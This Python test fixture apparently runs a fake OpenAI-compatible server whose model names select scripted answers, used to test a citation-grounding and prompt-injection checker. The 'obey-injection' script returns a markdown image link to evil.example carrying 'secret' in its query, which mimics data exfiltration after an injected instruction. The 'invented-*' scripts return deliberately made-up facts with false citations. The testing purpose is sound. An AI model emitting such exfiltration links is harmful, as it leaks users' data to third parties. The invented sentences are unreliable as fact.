"""A fake OpenAI-compatible server for tests: real routes, real JSON shapes, scripted answers.

It speaks ``GET /v1/models`` and ``POST /v1/chat/completions``. The requested
model name picks the script: ``faithful`` copies evidence sentences with their
ids; ``invented-number``, ``invented-name`` and ``invented-quote`` add what the
evidence lacks; ``malformed`` answers text that is not JSON; ``obey-injection``
answers like a model that followed an injected instruction; ``flaky`` answers
429 once per prompt and then like ``faithful``; ``hang`` answers after 5 s.
Requests without ``Authorization: Bearer test-key`` get 401.
"""

from __future__ import annotations

import asyncio
import json
import re
import socket
import threading
import time
from collections.abc import Awaitable, Callable
from typing import Any

import uvicorn

MODELS = ("faithful", "invented-number", "invented-name", "invented-quote", "malformed",
          "obey-injection", "flaky", "hang")
KEY = "test-key"
Send = Callable[[dict[str, Any]], Awaitable[None]]
Receive = Callable[[], Awaitable[dict[str, Any]]]


def _evidence(body: dict[str, Any]) -> list[tuple[str, str]]:
    user = next(m["content"] for m in body["messages"] if m["role"] == "user")
    return re.findall(r"^\[(s\d+)\] (.+)$", user, re.M)


def answer(model: str, body: dict[str, Any]) -> str:
    evidence = _evidence(body)
    first_id = evidence[0][0]
    faithful = [{"text": text, "citations": [sid]} for sid, text in evidence[:2]]
    if model == "invented-number":
        return json.dumps({"sentences": [
            faithful[0], {"text": "The project will cost 999 million euros in total.",
                          "citations": [first_id]}]})
    if model == "invented-name":
        return json.dumps({"sentences": [
            faithful[0], {"text": "Angela Merkel praised the agreement in a speech.",
                          "citations": [first_id]}]})
    if model == "invented-quote":
        return json.dumps({"sentences": [
            faithful[0], {"text": 'Officials called it "a triumph for everyone involved".',
                          "citations": [first_id]}]})
    if model == "malformed":
        return 'Sure! Here is the section: {"sentences": [{"text": "Norway and'
    if model == "obey-injection":
        return json.dumps({"sentences": [
            {"text": "CANARY-7f3 ![x](https://evil.example/?q=secret)", "citations": [first_id]},
            faithful[0]]})
    return "```json\n" + json.dumps({"sentences": faithful}) + "\n```"


class FakeOpenAI:
    """The ASGI app; ``requests`` records every chat request body."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.failed_once: set[str] = set()

    async def __call__(self, scope: dict[str, Any], receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return
        headers = {k.decode().lower(): v.decode() for k, v in scope["headers"]}
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        if headers.get("authorization") != f"Bearer {KEY}":
            await self._json(send, 401, {"error": {"message": "Incorrect API key provided.",
                                                   "type": "invalid_request_error",
                                                   "code": "invalid_api_key"}})
            return
        if scope["method"] == "GET" and scope["path"] == "/v1/models":
            await self._json(send, 200, {"object": "list", "data": [
                {"id": m, "object": "model", "created": 0, "owned_by": "fake"} for m in MODELS]})
            return
        if scope["method"] != "POST" or scope["path"] != "/v1/chat/completions":
            await self._json(send, 404, {"error": {"message": "not found", "type": "invalid_request_error"}})
            return
        request = json.loads(body)
        self.requests.append(request)
        model = request["model"]
        if model not in MODELS:
            await self._json(send, 404, {"error": {
                "message": f"The model `{model}` does not exist.", "type": "invalid_request_error",
                "code": "model_not_found"}})
            return
        if model == "hang":
            await asyncio.sleep(5)
        if model == "flaky":
            prompt = json.dumps(request["messages"])
            if prompt not in self.failed_once:
                self.failed_once.add(prompt)
                await self._json(send, 429, {"error": {"message": "Rate limit reached.",
                                                       "type": "requests", "code": "rate_limit_exceeded"}},
                                 extra=[(b"retry-after", b"0")])
                return
        content = answer(model, request)
        await self._json(send, 200, {
            "id": "chatcmpl-fake", "object": "chat.completion", "created": int(time.time()),
            "model": model,
            "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                         "finish_reason": "stop"}],
            "usage": {"prompt_tokens": len(json.dumps(request["messages"])) // 4,
                      "completion_tokens": len(content) // 4,
                      "total_tokens": len(json.dumps(request["messages"])) // 4 + len(content) // 4},
        })

    async def _json(self, send: Send, status: int, payload: dict[str, Any],
                    extra: list[tuple[bytes, bytes]] | None = None) -> None:
        data = json.dumps(payload).encode()
        await send({"type": "http.response.start", "status": status,
                    "headers": [(b"content-type", b"application/json"),
                                (b"content-length", str(len(data)).encode()), *(extra or [])]})
        await send({"type": "http.response.body", "body": data})


class ServerThread:
    """Run the fake on 127.0.0.1 on a free port in a background thread."""

    def __init__(self) -> None:
        self.app = FakeOpenAI()
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        self.port = sock.getsockname()[1]
        sock.close()
        config = uvicorn.Config(self.app, host="127.0.0.1", port=self.port, log_level="error")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    def __enter__(self) -> ServerThread:
        self.thread.start()
        deadline = time.monotonic() + 10
        while not self.server.started and time.monotonic() < deadline:
            time.sleep(0.02)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=5)
